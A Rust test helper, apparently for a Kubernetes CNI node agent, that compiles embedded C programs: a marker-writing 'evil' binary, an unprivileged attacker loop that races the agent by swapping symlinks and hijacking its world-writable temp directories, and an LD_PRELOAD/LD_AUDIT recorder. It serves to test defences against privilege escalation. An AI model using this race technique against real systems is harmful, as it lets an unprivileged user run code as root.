//! Real hostile programs for the tests of how the node's tools are started (`tests/host_root.rs`), built
//! with gcc (scripts/setup installs gcc and libc6-dev): a program that records the uid it ran as, an
//! unprivileged user's loop that plants a link to it where the agent names the node's iptables, and an
//! `LD_PRELOAD` / `LD_AUDIT` library that records every process it is loaded into.

use std::path::{Path, PathBuf};
use std::process::Command;

/// The uid the attacker runs as (`nobody` on Debian).
pub const NOBODY: u32 = 65534;

/// Writes "uid=<uid>" to the marker file, appending: proof of which user ran it.
const EVIL: &str = r#"
#include <stdio.h>
#include <unistd.h>
int main(void) {
    FILE *f = fopen(MARKER, "a");
    if (f) { fprintf(f, "uid=%d\n", (int)getuid()); fclose(f); }
    return 0;
}
"#;

/// An unprivileged user racing the agent. Arguments: the agent's temp dir (`base`), the agent's pid, the
/// tool's name, the evil program, a file to create once ready. It makes the directory the agent used to
/// name (`<base>/istio-cni-host-tools-<pid>`, world-writable) and keeps swapping the tool's link in it for
/// one to the evil program; every 64 rounds it also tries every other `istio-cni-host-tools-*` in `base`:
/// plants the link inside (and in numbered subdirectories), or renames the directory away and puts its
/// own, so planted, in its place.
const ATTACKER: &str = r#"
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>
static void plant(const char *dir, const char *name, const char *evil) {
    char link[4096], tmp[4096];
    snprintf(link, sizeof link, "%s/%s", dir, name);
    snprintf(tmp, sizeof tmp, "%s/.evil", dir);
    unlink(tmp);
    if (symlink(evil, tmp) == 0) rename(tmp, link);
}
/* The link at <dir>/<name> and at <dir>/<k>/<name> (the agent's numbered subdirectories). */
static void plant_all(const char *dir, const char *name, const char *evil) {
    plant(dir, name, evil);
    for (int k = 0; k < 4; k++) {
        char sub[4200];
        snprintf(sub, sizeof sub, "%s/%d", dir, k);
        mkdir(sub, 0777);
        plant(sub, name, evil);
    }
}
int main(int argc, char **argv) {
    if (argc != 6) return 2;
    const char *base = argv[1], *pid = argv[2], *name = argv[3], *evil = argv[4];
    char own[4096];
    snprintf(own, sizeof own, "%s/istio-cni-host-tools-%s", base, pid);
    mkdir(own, 0777);
    chmod(own, 0777);
    close(open(argv[5], O_CREAT | O_WRONLY, 0644));
    for (unsigned long i = 0;; i++) {
        plant(own, name, evil);
        if (i % 64) continue;
        DIR *d = opendir(base);
        if (!d) continue;
        struct dirent *e;
        while ((e = readdir(d))) {
            if (strncmp(e->d_name, "istio-cni-host-tools-", 21) || strstr(e->d_name, ".stolen")) continue;
            char p[4096], s[4200];
            snprintf(p, sizeof p, "%s/%s", base, e->d_name);
            if (!strcmp(p, own)) continue;
            plant_all(p, name, evil);
            snprintf(s, sizeof s, "%s.stolen", p);
            if (rename(p, s) == 0 && mkdir(p, 0777) == 0) { chmod(p, 0777); plant_all(p, name, evil); }
        }
        closedir(d);
    }
}
"#;

/// Loaded through `LD_PRELOAD` (constructor) or `LD_AUDIT` (`la_version`): appends the loading process's
/// executable to the marker file.
const RECORDER: &str = r#"
#include <stdio.h>
#include <unistd.h>
static void record(const char *how) {
    char exe[4096];
    ssize_t n = readlink("/proc/self/exe", exe, sizeof exe - 1);
    if (n < 0) n = 0;
    exe[n] = 0;
    FILE *f = fopen(MARKER, "a");
    if (f) { fprintf(f, "%s %s\n", how, exe); fclose(f); }
}
__attribute__((constructor)) static void preloaded(void) { record("preload"); }
unsigned int la_version(unsigned int v) { record("audit"); return v; }
"#;

/// Compiles `source` into `out` (a shared library when `shared`), with `MARKER` defined as `marker`.
fn gcc(source: &str, out: &Path, marker: Option<&Path>, shared: bool) -> PathBuf {
    let src = out.with_extension("c");
    std::fs::write(&src, source).unwrap();
    let mut c = Command::new("gcc");
    c.arg("-O2").arg("-o").arg(out).arg(&src);
    if shared {
        c.args(["-shared", "-fPIC"]);
    }
    if let Some(m) = marker {
        c.arg(format!("-DMARKER=\"{}\"", m.display()));
    }
    let o = c
        .output()
        .expect("gcc (scripts/setup installs gcc and libc6-dev)");
    assert!(
        o.status.success(),
        "gcc {}: {}",
        out.display(),
        String::from_utf8_lossy(&o.stderr)
    );
    out.to_path_buf()
}

/// The evil program in `dir`, recording to `marker`.
pub fn evil(dir: &Path, marker: &Path) -> PathBuf {
    gcc(EVIL, &dir.join("evil"), Some(marker), false)
}

/// The attacker's loop in `dir`.
pub fn attacker(dir: &Path) -> PathBuf {
    gcc(ATTACKER, &dir.join("attacker"), None, false)
}

/// The preload/audit library in `dir`, recording to `marker`.
pub fn recorder(dir: &Path, marker: &Path) -> PathBuf {
    gcc(RECORDER, &dir.join("recorder.so"), Some(marker), true)
}

/// A directory with `mode` (the umask does not apply), made fresh.
pub fn dir_with_mode(path: &Path, mode: u32) -> PathBuf {
    use std::os::unix::fs::PermissionsExt;
    let _ = std::fs::remove_dir_all(path);
    std::fs::create_dir_all(path).unwrap();
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).unwrap();
    path.to_path_buf()
}

/// The lines of `marker` (none when it does not exist).
pub fn lines(marker: &Path) -> Vec<String> {
    std::fs::read_to_string(marker)
        .unwrap_or_default()
        .lines()
        .map(str::to_string)
        .collect()
}
